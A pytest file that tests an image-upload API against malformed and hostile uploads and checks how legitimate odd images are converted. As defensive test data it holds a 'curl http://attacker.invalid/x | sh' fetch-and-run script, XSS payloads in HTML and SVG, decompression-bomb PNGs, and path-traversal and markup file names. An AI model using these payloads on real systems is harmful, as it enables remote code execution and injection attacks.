"""The bad-input corpus, made here, sent through the real HTTP API and as the page sends it.

The page posts its form to the same ``POST /api/tasks`` with ``fetch`` (see static/app.js), so
"through the page" means the same request with the headers a browser adds to it
(``Sec-Fetch-Site: same-origin``, ``Origin``, ``Accept: application/json``). Every hostile item
must get a 4xx whose message names what was wrong, and leave no file under data/files and no
row in tasks, task_files, usage_events or users. Items a person may legitimately send (CMYK,
16-bit, palette, alpha, animated WebP, huge EXIF, odd file names) are accepted and stored
converted; the server keeps serving after all of it.
"""

from __future__ import annotations

import io
import random
import secrets
import sqlite3
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from PIL import Image, TiffImagePlugin

from app.main import create_app
from app.upstream.simulator import SimulatorConfig, SimulatorServer
from tests.conftest import image_bytes, studio_settings, wait_for

PAGE_HEADERS = {
    "Sec-Fetch-Site": "same-origin",
    "Sec-Fetch-Mode": "cors",
    "Origin": "http://testserver",
    "Accept": "application/json",
}
MODES = {"api": {}, "page": PAGE_HEADERS}
PROMPT = "make the shirt red"
MB = 1024 * 1024

# --- generated inputs ---------------------------------------------------------------------------


def _save(img: Image.Image, fmt: str, **params: object) -> bytes:
    buf = io.BytesIO()
    img.save(buf, fmt, **params)
    return buf.getvalue()


def _noise(width: int = 512, height: int = 400, seed: int = 1) -> Image.Image:
    """A picture that compresses badly, so truncating its file cuts into pixel data."""
    data = random.Random(seed).randbytes(width * height * 3)
    return Image.frombytes("RGB", (width, height), data)


def _chunk(kind: bytes, data: bytes) -> bytes:
    crc = zlib.crc32(kind + data) & 0xFFFFFFFF
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", crc)


def png_declaring(width: int, height: int) -> bytes:
    """A valid-looking PNG of a few hundred bytes whose header declares width x height pixels."""
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    idat = zlib.compress(b"\x00" * (1 + 3 * 1024) * 8, 9)
    return (
        b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", ihdr) + _chunk(b"IDAT", idat) + _chunk(b"IEND", b"")
    )


def truncated_jpeg() -> bytes:
    data = _save(_noise(), "JPEG", quality=90)
    return data[: len(data) // 2]


def truncated_png() -> bytes:
    data = _save(_noise(), "PNG")
    return data[: len(data) // 2]


def png_bad_header_crc() -> bytes:
    data = bytearray(_save(_noise(), "PNG"))
    data[29] ^= 0xFF  # inside the IHDR's checksum
    return bytes(data)


def png_damaged_pixels() -> bytes:
    data = bytearray(_save(_noise(), "PNG"))
    middle = len(data) // 2
    data[middle : middle + 400] = random.Random(7).randbytes(400)
    return bytes(data)


def zip_archive() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as archive:
        archive.writestr("photo.png", image_bytes())
        archive.writestr("run.sh", "#!/bin/sh\necho owned\n")
    return buf.getvalue()


def gif() -> bytes:
    return _save(Image.new("P", (512, 400)), "GIF")


HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="512" height="512" '
    b'onload="alert(1)"><rect width="512" height="512"/></svg>'
)
SCRIPT = b"#!/bin/sh\ncurl http://attacker.invalid/x | sh\n"

# Accepted inputs and how their stored copy must look.

FRAME_COLOURS = [(250, 10, 10), (10, 250, 10), (10, 10, 250)]


def animated_webp() -> bytes:
    frames = [Image.new("RGB", (512, 400), c) for c in FRAME_COLOURS]
    return _save(frames[0], "WEBP", save_all=True, append_images=frames[1:], lossless=True)


def cmyk_jpeg() -> bytes:
    return _save(Image.new("CMYK", (512, 400), (0, 255, 255, 0)), "JPEG", quality=95)


def png_16_bit() -> bytes:
    row = struct.pack("<H", 40000) * 256 + bytes(2 * 256)  # left half 40000, right half 0
    return _save(Image.frombytes("I;16", (512, 400), row * 400), "PNG")


def palette_with_transparency() -> bytes:
    img = Image.new("P", (512, 400), 1)
    img.putpalette([0, 0, 0, 200, 40, 40] + [0] * (254 * 3))
    img.paste(0, (0, 0, 100, 100))
    return _save(img, "PNG", transparency=0)


def rgba_png() -> bytes:
    img = Image.new("RGBA", (512, 400), (30, 60, 90, 255))
    img.paste((200, 0, 0, 0), (0, 0, 128, 128))
    return _save(img, "PNG")


EXIF_MARKER = b"QES-EXIF-MARKER"


def jpeg_with_huge_exif() -> bytes:
    exif = Image.Exif()
    exif[0x010E] = "description " * 10  # ImageDescription
    exif[0x9286] = EXIF_MARKER + b"\x00" * 60_000  # UserComment: the block's near its 64 KB cap
    exif[0x8825] = {1: "N", 2: (52.0, 31.0, 12.0)}  # a GPS position
    return _save(Image.new("RGB", (512, 400), (90, 90, 90)), "JPEG", exif=exif.tobytes())


def tiff_with_big_tag() -> bytes:
    info = TiffImagePlugin.ImageFileDirectory_v2()
    info[270] = EXIF_MARKER.decode() + " " + "x" * 500_000  # ImageDescription
    return _save(Image.new("RGB", (512, 400), (70, 80, 90)), "TIFF", tiffinfo=info)


def png_with_html_appended() -> bytes:
    return image_bytes() + HTML


# --- requests -----------------------------------------------------------------------------------

Part = tuple[str, str | None, str | None, bytes]


def multipart(parts: list[Part]) -> tuple[bytes, str]:
    """A multipart body built byte by byte, so names, encodings and filenames are exactly ours."""
    boundary = "qes" + secrets.token_hex(8)
    out = bytearray()
    for name, filename, content_type, data in parts:
        out += f"--{boundary}\r\n".encode()
        disposition = f'Content-Disposition: form-data; name="{name}"'.encode()
        if filename is not None:
            disposition += b'; filename="' + filename.encode("utf-8") + b'"'
        out += disposition + b"\r\n"
        if content_type:
            out += f"Content-Type: {content_type}\r\n".encode()
        out += b"\r\n" + data + b"\r\n"
    out += f"--{boundary}--\r\n".encode()
    return bytes(out), f"multipart/form-data; boundary={boundary}"


def prompt_part(text: str | bytes = PROMPT) -> Part:
    return ("prompt", None, None, text.encode() if isinstance(text, str) else text)


def image_part(filename: str, data: bytes, content_type: str = "image/png") -> Part:
    return ("images", filename, content_type, data)


def send(client: TestClient, parts: list[Part], mode: str):  # type: ignore[no-untyped-def]
    body, content_type = multipart(parts)
    headers = {"content-type": content_type, **MODES[mode]}
    return client.post("/api/tasks", content=body, headers=headers)


# --- what must not change -----------------------------------------------------------------------


def db_counts(data_dir: Path) -> dict[str, int]:
    db = sqlite3.connect(data_dir / "studio.db")
    try:
        return {
            table: db.execute(f"SELECT COUNT(*) FROM {table}").fetchone()[0]
            for table in ("tasks", "task_files", "usage_events", "users")
        }
    finally:
        db.close()


def stored(data_dir: Path) -> set[Path]:
    """Every file under data/files, temporary ones included."""
    return {p for p in (data_dir / "files").rglob("*") if p.is_file()}


def outside_files(root: Path, data_dir: Path) -> set[Path]:
    """Files under the test's root that are not the store, the database or the secret."""
    skip = {data_dir / "secret_key"}
    return {
        p
        for p in root.rglob("*")
        if p.is_file()
        and p not in skip
        and (data_dir / "files") not in p.parents
        and not p.name.startswith("studio.db")
    }


@dataclass
class Studio:
    client: TestClient
    root: Path
    data: Path


@pytest.fixture(scope="module")
def studio(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Studio]:
    """One app for the whole corpus: the point is that it keeps serving through all of it."""
    root = tmp_path_factory.mktemp("inputs")
    sim = SimulatorServer(SimulatorConfig(delay=0.05, api_key="test-key"))
    sim.start()
    settings = studio_settings(root, sim, simulator_delay=0.05)
    client = TestClient(create_app(settings))
    client.__enter__()
    try:
        yield Studio(client, root, settings.data_dir)
    finally:
        client.__exit__(None, None, None)
        sim.stop()


# --- the refused items --------------------------------------------------------------------------


@dataclass(frozen=True)
class Refused:
    parts: Callable[[], list[Part]]
    status: int
    code: str
    fragments: tuple[str, ...]


def _one(name: str, data: Callable[[], bytes], content_type: str = "image/png") -> Callable:
    return lambda: [prompt_part(), image_part(name, data(), content_type)]


REFUSED: dict[str, Refused] = {
    "bomb-100000px-png": Refused(
        _one("bomb.png", lambda: png_declaring(100_000, 100_000)),
        400,
        "decompression_bomb",
        ('"bomb.png"', "decompression bomb", "3072"),
    ),
    "bomb-12000px-png": Refused(
        # Between Pillow's warning (89 Mpx) and its error (179 Mpx): refused all the same.
        _one("big.png", lambda: png_declaring(12_000, 12_000)),
        400,
        "decompression_bomb",
        ('"big.png"', "decompression bomb"),
    ),
    "declared-3073px-png": Refused(
        _one("wide.png", lambda: png_declaring(3073, 3073)),
        400,
        "bad_dimensions",
        ('"wide.png"', "3073x3073", "3072"),
    ),
    "truncated-jpeg": Refused(
        _one("cut.jpg", truncated_jpeg, "image/jpeg"),
        400,
        "corrupt_image",
        ('"cut.jpg"', "JPEG", "truncated or damaged"),
    ),
    "truncated-png": Refused(
        _one("cut.png", truncated_png), 400, "corrupt_image", ('"cut.png"', "truncated")
    ),
    "png-bad-header-checksum": Refused(
        # Pillow's PNG plugin gives up on the header, so no decoder claims the file.
        _one("crc.png", png_bad_header_crc),
        415,
        "unsupported_format",
        ('"crc.png"', "allowed formats"),
    ),
    "png-damaged-pixels": Refused(
        _one("noise.png", png_damaged_pixels), 400, "corrupt_image", ('"noise.png"', "damaged")
    ),
    "png-signature-only": Refused(
        _one("sig.png", lambda: b"\x89PNG\r\n\x1a\n"),
        415,
        "unsupported_format",
        ('"sig.png"', "allowed formats"),
    ),
    "empty-file": Refused(_one("empty.png", lambda: b""), 400, "empty_file", ('"empty.png"', "0")),
    "html-named-png": Refused(
        _one("page.png", lambda: HTML),
        415,
        "unsupported_format",
        ('"page.png"', "HTML page", "JPG/JPEG, PNG, BMP, WEBP, TIFF"),
    ),
    "svg-named-png": Refused(
        _one("vector.png", lambda: SVG), 415, "unsupported_format", ('"vector.png"', "an SVG")
    ),
    "script-named-png": Refused(
        _one("run.png", lambda: SCRIPT),
        415,
        "unsupported_format",
        ('"run.png"', "not an image", "allowed formats"),
    ),
    "zip-named-png": Refused(
        _one("archive.png", zip_archive),
        415,
        "unsupported_format",
        ('"archive.png"', "ZIP archive"),
    ),
    "pdf-named-jpg": Refused(
        _one("doc.jpg", lambda: b"%PDF-1.4\n1 0 obj<<>>endobj\n%%EOF\n", "image/jpeg"),
        415,
        "unsupported_format",
        ('"doc.jpg"', "PDF"),
    ),
    "gif": Refused(
        _one("anim.gif", gif, "image/gif"), 415, "unsupported_format", ('"anim.gif"', "a GIF")
    ),
    "random-bytes": Refused(
        _one("noise.bin", lambda: random.Random(3).randbytes(4096), "application/octet-stream"),
        415,
        "unsupported_format",
        ('"noise.bin"',),
    ),
    "second-image-bad": Refused(
        lambda: [
            prompt_part(),
            image_part("ok.png", image_bytes()),
            image_part("bad.png", HTML),
        ],
        415,
        "unsupported_format",
        ('image 2 ("bad.png")',),
    ),
    "file-over-10-mb": Refused(
        _one("huge.png", lambda: b"\x89PNG" + bytes(11 * MB)),
        413,
        "file_too_large",
        ('"huge.png"', "10 MB"),
    ),
    "field-image-not-images": Refused(
        lambda: [prompt_part(), ("image", "a.png", "image/png", image_bytes())],
        400,
        "no_images",
        ("'images'",),
    ),
    "field-file-not-images": Refused(
        lambda: [prompt_part(), ("file", "a.png", "image/png", image_bytes())],
        400,
        "no_images",
        ("'images'",),
    ),
    "images-as-text": Refused(
        lambda: [prompt_part(), ("images", None, None, b"not a file")],
        400,
        "invalid_images",
        ("'images'", "files"),
    ),
    "prompt-as-file": Refused(
        lambda: [("prompt", "p.txt", "text/plain", PROMPT.encode()), image_part("a.png", b"")],
        400,
        "prompt_invalid",
        ("'prompt'", "text"),
    ),
    "missing-prompt": Refused(
        lambda: [image_part("a.png", image_bytes())], 400, "prompt_empty", ("prompt is empty",)
    ),
    "whitespace-prompt": Refused(
        lambda: [prompt_part(" \t\r\n \u3000\u00a0 "), image_part("a.png", image_bytes())],
        400,
        "prompt_empty",
        ("prompt is empty",),
    ),
    "nul-in-prompt": Refused(
        lambda: [prompt_part("make it\x00 red"), image_part("a.png", image_bytes())],
        400,
        "prompt_invalid",
        ("NUL",),
    ),
    "non-utf8-prompt": Refused(
        lambda: [prompt_part("mach es rot, schön".encode("latin-1")), image_part("a.png", b"x")],
        400,
        "invalid_encoding",
        ("'prompt'", "UTF-8"),
    ),
    "prompt-too-long": Refused(
        lambda: [prompt_part("红" * 2100), image_part("a.png", image_bytes())],
        400,
        "prompt_too_long",
        ("tokens", "2000"),
    ),
    "four-images": Refused(
        lambda: [prompt_part()] + [image_part(f"p{i}.png", image_bytes()) for i in range(4)],
        400,
        "too_many_images",
        ("4 images", "at most 3"),
    ),
    "no-images": Refused(lambda: [prompt_part()], 400, "no_images", ("at least one image",)),
}


@pytest.mark.parametrize("mode", list(MODES))
@pytest.mark.parametrize("item", list(REFUSED))
def test_refused_with_its_reason_and_nothing_left_behind(studio: Studio, item: str, mode: str):
    case = REFUSED[item]
    files_before, rows_before = stored(studio.data), db_counts(studio.data)
    outside_before = outside_files(studio.root, studio.data)

    response = send(studio.client, case.parts(), mode)

    assert response.status_code == case.status, response.text
    error = response.json()["error"]
    assert error["code"] == case.code, error
    for fragment in case.fragments:
        assert fragment in error["message"], error["message"]
    assert stored(studio.data) == files_before
    assert db_counts(studio.data) == rows_before
    assert outside_files(studio.root, studio.data) == outside_before


@pytest.mark.parametrize("mode", list(MODES))
def test_body_that_is_not_multipart_is_refused(studio: Studio, mode: str):
    rows = db_counts(studio.data)
    as_json = studio.client.post(
        "/api/tasks", json={"prompt": PROMPT, "images": ["x"]}, headers=MODES[mode]
    )
    assert as_json.status_code == 415
    assert as_json.json()["error"]["code"] == "not_multipart"
    assert "multipart/form-data" in as_json.json()["error"]["message"]
    assert "application/json" in as_json.json()["error"]["message"]

    broken = studio.client.post(
        "/api/tasks",
        content=b"--zz\r\nContent-Disposition: form-data\r\n\r\nno name\r\n--zz--\r\n",
        headers={"content-type": "multipart/form-data; boundary=zz", **MODES[mode]},
    )
    assert broken.status_code == 400
    assert broken.json()["error"]["code"] == "invalid_multipart"
    assert "multipart" in broken.json()["error"]["message"]
    assert db_counts(studio.data) == rows


@pytest.mark.parametrize("mode", list(MODES))
def test_oversize_request_is_refused_on_its_declared_length_before_parsing(
    studio: Studio, mode: str
):
    # A small, valid job that *declares* 40 MB: answered 413 without reading it, which is the
    # proof that nothing was parsed (a parsed body would have been accepted).
    body, content_type = multipart([prompt_part(), image_part("a.png", image_bytes())])
    files, rows = stored(studio.data), db_counts(studio.data)
    response = studio.client.post(
        "/api/tasks",
        content=body,
        headers={
            "content-type": content_type,
            "content-length": str(40 * MB),
            **MODES[mode],
        },
    )
    assert response.status_code == 413
    assert response.json()["error"]["code"] == "request_too_large"
    assert "at most 3 images of at most 10 MB" in response.json()["error"]["message"]
    assert stored(studio.data) == files and db_counts(studio.data) == rows


# --- accepted items, stored converted -----------------------------------------------------------


def _stored_input(client: TestClient, job: dict, position: int = 0) -> tuple[Image.Image, bytes]:
    response = client.get(f"/files/{job['id']}/inputs/{position}")
    assert response.status_code == 200
    assert response.headers["content-type"] == job["inputs"][position]["content_type"]
    assert response.headers["x-content-type-options"] == "nosniff"
    img = Image.open(io.BytesIO(response.content))
    img.load()
    return img, response.content


def _accept(studio: Studio, name: str, data: bytes, mode: str = "api") -> dict:
    response = send(studio.client, [prompt_part(), image_part(name, data)], mode)
    assert response.status_code == 202, response.text
    job = response.json()
    assert wait_for(studio.client, job["id"])["status"] == "succeeded"
    return job


@pytest.mark.parametrize("mode", list(MODES))
def test_animated_webp_is_accepted_as_its_first_frame(studio: Studio, mode: str):
    job = _accept(studio, "sticker.webp", animated_webp(), mode)
    img, _ = _stored_input(studio.client, job)
    assert img.format == "WEBP" and getattr(img, "n_frames", 1) == 1
    assert img.convert("RGB").getpixel((10, 10)) == FRAME_COLOURS[0]


def test_cmyk_jpeg_is_stored_as_rgb(studio: Studio):
    img, _ = _stored_input(studio.client, _accept(studio, "print.jpg", cmyk_jpeg()))
    assert img.format == "JPEG" and img.mode == "RGB"
    red, green, blue = img.getpixel((10, 10))
    assert red > 200 and green < 60 and blue < 60  # C=0 M=255 Y=255 K=0 is red


def test_16_bit_png_is_stored_as_8_bit(studio: Studio):
    img, _ = _stored_input(studio.client, _accept(studio, "scan.png", png_16_bit()))
    assert img.format == "PNG" and img.mode == "L"
    assert img.getpixel((10, 10)) == round(40000 * 255 / 65535)
    assert img.getpixel((400, 10)) == 0


def test_palette_with_transparency_is_stored_as_rgba(studio: Studio):
    img, _ = _stored_input(studio.client, _accept(studio, "logo.png", palette_with_transparency()))
    assert img.mode == "RGBA"
    assert img.getpixel((10, 10))[3] == 0
    assert img.getpixel((300, 300)) == (200, 40, 40, 255)


def test_alpha_is_kept(studio: Studio):
    img, _ = _stored_input(studio.client, _accept(studio, "cutout.png", rgba_png()))
    assert img.mode == "RGBA"
    assert img.getpixel((10, 10))[3] == 0 and img.getpixel((300, 300)) == (30, 60, 90, 255)


def test_huge_exif_and_metadata_are_not_kept(studio: Studio):
    for name, data in (("exif.jpg", jpeg_with_huge_exif()), ("tags.tiff", tiff_with_big_tag())):
        img, raw = _stored_input(studio.client, _accept(studio, name, data))
        assert EXIF_MARKER not in raw
        assert not img.info.get("exif") and not img.getexif()
        assert len(raw) < len(data)


def test_trailing_payload_is_dropped_by_the_re_encode(studio: Studio):
    _, raw = _stored_input(studio.client, _accept(studio, "poly.png", png_with_html_appended()))
    assert b"<script" not in raw and b"<html" not in raw.lower()


HOSTILE_NAMES = {
    "traversal": "../../{marker}.png",
    "windows-traversal": "..\\..\\{marker}.png",
    "absolute": "/etc/{marker}.png",
    "nul-and-controls": "a\x00b\x1b[31m\x7f{marker}.png",
    "300-chars": "{marker}" + "x" * 300 + ".png",
    "markup": "<script>alert(1)</script>{marker}.png",
}


@pytest.mark.parametrize("kind", list(HOSTILE_NAMES))
def test_browser_file_names_are_never_used_as_paths(studio: Studio, kind: str):
    marker = "qesmark" + secrets.token_hex(4)
    filename = HOSTILE_NAMES[kind].format(marker=marker)
    outside_before = outside_files(studio.root, studio.data)
    job = _accept(studio, filename, image_bytes(600, 420, (1, 2, 3)), "page")

    shown = job["inputs"][0]["name"]
    assert shown and marker in shown
    assert "/" not in shown and "\\" not in shown and ".." not in shown.replace("...", "")
    assert not any(ord(ch) < 32 or ord(ch) == 127 for ch in shown)
    assert len(shown) <= 120
    # Stored under its hash; no file anywhere is named after what the browser sent.
    assert all(marker not in str(p) for p in stored(studio.data))
    assert outside_files(studio.root, studio.data) == outside_before
    for base in (studio.data / "files", studio.data, studio.root, Path.cwd(), Path("/tmp")):
        assert not any(base.glob(f"*{marker}*"))
        assert not any(base.parent.glob(f"*{marker}*"))
    # The history partial shows no raw markup from the name.
    history = studio.client.get("/partials/history")
    assert "<script>alert(1)" not in history.text


def test_server_keeps_serving_and_refusals_did_not_count(studio: Studio):
    """After the whole corpus, a plain job still goes through end to end."""
    job = _accept(studio, "after.png", image_bytes(640, 480, (5, 6, 7)))
    result = studio.client.get(f"/files/{job['id']}/results/0")
    assert result.status_code == 200
    assert result.headers["content-type"].startswith("image/")
    assert studio.client.get("/healthz").status_code == 200


def test_refused_requests_do_not_count_toward_the_per_minute_limits(tmp_path, sim, make_client):
    client = make_client(
        studio_settings(tmp_path, sim, jobs_per_minute=2, jobs_per_minute_per_ip=2)
    )
    for item in ("gif", "missing-prompt", "bomb-100000px-png", "four-images", "html-named-png"):
        assert send(client, REFUSED[item].parts(), "page").status_code in (400, 413, 415)
    good = [prompt_part(), image_part("ok.png", image_bytes())]
    for _ in range(2):
        assert send(client, good, "page").status_code == 202
    third = send(client, good, "page")
    assert third.status_code == 429 and int(third.headers["retry-after"]) >= 1
